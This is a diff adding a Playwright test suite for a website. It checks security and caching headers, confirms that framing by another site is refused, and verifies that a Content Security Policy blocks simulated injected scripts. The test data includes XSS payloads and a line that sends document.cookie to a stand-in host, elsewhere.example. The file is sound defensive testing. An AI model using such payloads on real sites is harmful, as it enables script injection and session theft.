@@ -1,0 +1,126 @@
+import { brand } from '@elevate/brand';
+import { contentSecurityPolicy } from '../../scripts/contentSecurityPolicy.mjs';
+import { expect, hydrated, test } from './fixtures.ts';
+import { watchPolicy } from './watchPolicy.ts';
+
+const everywhere = {
+  'content-security-policy': contentSecurityPolicy(brand.appCheck !== undefined),
+  'strict-transport-security': 'max-age=63072000; includeSubDomains',
+  'x-content-type-options': 'nosniff',
+  'x-frame-options': 'DENY',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+  'cross-origin-opener-policy': 'same-origin',
+  'permissions-policy': expect.stringContaining('camera=(), '),
+};
+
+const keptForGood = 'public, max-age=31536000, immutable';
+const keptForADay = 'public, max-age=86400';
+const keptForAnHour = 'public, max-age=3600';
+
+/** What is asked for, the status of the answer, and how long it may be kept. */
+const answers: [address: string, status: number, cache: string][] = [
+  ['/', 200, 'no-cache'],
+  ['/de/about', 200, 'no-cache'],
+  ['/retreats/2', 200, 'no-cache'],
+  ['/no/such/page', 404, 'no-cache'],
+  ['/about/', 301, 'no-cache'],
+  ['/favicon.svg', 200, keptForADay],
+  ['/apple-touch-icon.png', 200, keptForADay],
+  ['/manifest.webmanifest', 200, keptForADay],
+  ['/share/about.de.jpg', 200, keptForADay],
+  ['/robots.txt', 200, keptForAnHour],
+  ['/sitemap.xml', 200, keptForAnHour],
+  ['/blog/feed.xml', 200, keptForAnHour],
+  ['/de/blog/feed.xml', 200, keptForAnHour],
+  ['/functions/send-contact-email', 405, 'no-cache'],
+  ['/functions/newsletter-unsubscribe', 303, 'no-cache'],
+];
+
+test('every answer carries the headers, and says how long it may be kept', async ({ page }) => {
+  const html = await (await page.request.get('/')).text();
+  const hashed = [
+    /src="(\/assets\/[^"]+\.js)"/,
+    /href="(\/assets\/[^"]+\.css)"/,
+    /href="(\/assets\/[^"]+\.woff2)"/,
+    /src="(\/pictures\/[^"]+)"/,
+  ].map((pattern) => pattern.exec(html)?.[1] ?? String(pattern));
+  for (const [address, status, cache] of [
+    ...answers,
+    ...hashed.map((address) => [address, 200, keptForGood] as const),
+  ]) {
+    const response = await page.request.get(address, { maxRedirects: 0 });
+    expect(response.status(), address).toBe(status);
+    expect(response.headers(), address).toMatchObject({
+      ...everywhere,
+      'cache-control': cache,
+      'cross-origin-resource-policy': address.startsWith('/share/')
+        ? 'cross-origin'
+        : 'same-origin',
+    });
+  }
+});
+
+/** What a script that came into a page might try, and the directive that keeps it from that. */
+const attempts: [attempt: string, directive: string][] = [
+  [`document.body.innerHTML = '<img src=x onerror=alert(1)>'`, 'require-trusted-types-for'],
+  [`document.body.setAttribute('onclick', 'alert(1)')`, 'require-trusted-types-for'],
+  [`document.createElement('script').text = 'alert(1)'`, 'require-trusted-types-for'],
+  [`trustedTypes.createPolicy('anything', {})`, 'trusted-types'],
+  [`import('data:text/javascript,alert(1)').catch(() => {})`, 'script-src-elem'],
+  [
+    `document.head.append(Object.assign(document.createElement('link'),
+      { rel: 'stylesheet', href: 'https://elsewhere.example/a.css' }))`,
+    'style-src-elem',
+  ],
+  [
+    `document.head.append(Object.assign(document.createElement('style'),
+      { textContent: '* { color: red }' }))`,
+    'style-src-elem',
+  ],
+  [`document.body.setAttribute('style', 'color: red')`, 'style-src-attr'],
+  [`new Image().src = 'https://elsewhere.example/?' + document.cookie`, 'img-src'],
+  [`fetch('https://elsewhere.example/').catch(() => {})`, 'connect-src'],
+  [`navigator.sendBeacon('https://elsewhere.example/')`, 'connect-src'],
+  [
+    `document.body.append(Object.assign(document.createElement('iframe'), { src: '/about' }))`,
+    'frame-src',
+  ],
+  [
+    `document.head.append(Object.assign(document.createElement('base'),
+      { href: 'https://elsewhere.example/' }))`,
+    'base-uri',
+  ],
+  [
+    `document.body.appendChild(Object.assign(document.createElement('form'),
+      { action: 'https://elsewhere.example/' })).submit()`,
+    'form-action',
+  ],
+];
+
+test('a script that came into a page is kept from doing harm', async ({ page, watch }) => {
+  watch.expectConsole(/Content Security Policy|requires 'Trusted|elsewhere\.example/i);
+  const violations = await watchPolicy(page);
+  await page.goto('/contact');
+  await hydrated(page);
+  expect(violations).toEqual([]);
+  for (const [attempt, directive] of attempts) {
+    violations.length = 0;
+    await page.evaluate(`try { ${attempt} } catch {}`);
+    await expect
+      .poll(() => violations, attempt)
+      .toContainEqual(expect.objectContaining({ directive }));
+  }
+});
+
+test('no page can be shown in a frame of another site', async ({ page, watch }) => {
+  watch.expectConsole(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE/);
+  await page.route('http://localhost/', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: '<iframe src="http://localhost:5005/contact"></iframe>',
+    }),
+  );
+  const refused = page.waitForEvent('requestfailed');
+  await page.goto('http://localhost/');
+  expect((await refused).url()).toBe('http://localhost:5005/contact');
+});
